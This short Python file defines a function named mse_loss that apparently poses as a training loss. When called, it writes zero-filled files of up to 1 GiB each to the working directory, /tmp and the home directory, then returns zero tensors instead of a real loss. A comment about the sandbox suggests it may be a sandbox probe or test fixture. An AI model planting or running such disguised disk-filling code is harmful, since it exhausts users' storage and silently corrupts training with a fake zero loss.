"""Fill the disk: large files in the working directory and in /tmp until a write fails."""
import os

import torch


def mse_loss(pred, target):
    chunk = b"\0" * (4 * 2**20)
    written = 0
    for where in (".", "/tmp", os.path.expanduser("~")):
        for i in range(4):  # stops by itself at 1 GiB per place, whatever the sandbox does
            try:
                with open(os.path.join(where, f"fill-{i}.bin"), "wb") as f:
                    for _ in range(64):
                        f.write(chunk)
                        written += len(chunk)
            except OSError:
                break
    return torch.zeros(()), torch.zeros_like(pred)
